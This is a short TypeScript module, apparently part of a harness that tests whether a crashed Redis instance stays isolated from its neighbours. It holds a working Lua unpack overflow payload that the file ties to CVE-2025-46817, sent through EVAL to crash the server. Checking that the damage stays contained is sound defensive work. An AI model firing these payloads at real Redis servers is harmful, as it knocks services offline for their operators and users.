// Overflows the count of values that unpack returns (CVE-2025-46817) to break the server → at worst it dies alone and its box with it
import { usedUids } from '../../processes.ts';
import { attack } from '../attack.ts';

export default attack(async ({ redis }) => {
  const [broken, neighbour] = await Promise.all([redis(), redis()]);
  const said = await broken.learner.eval('return {unpack({0, 0}, 1, 2147483647)}', 0).then(
    () => 'answered',
    (error: Error) => error.message.slice(0, 60),
  );
  await broken.learner.eval('return {unpack({0, 0}, -2147483648, 2147483647)}', 0).catch(() => null);
  const answer = await neighbour.learner.ping().catch((error: Error) => error.message);
  const alive = usedUids(broken.box.uid, 1).size > 0;
  return {
    effect: answer !== 'PONG',
    observed: `${said}; ${alive ? 'it lives' : 'it is dead'}, its neighbour says ${answer}`,
  };
});
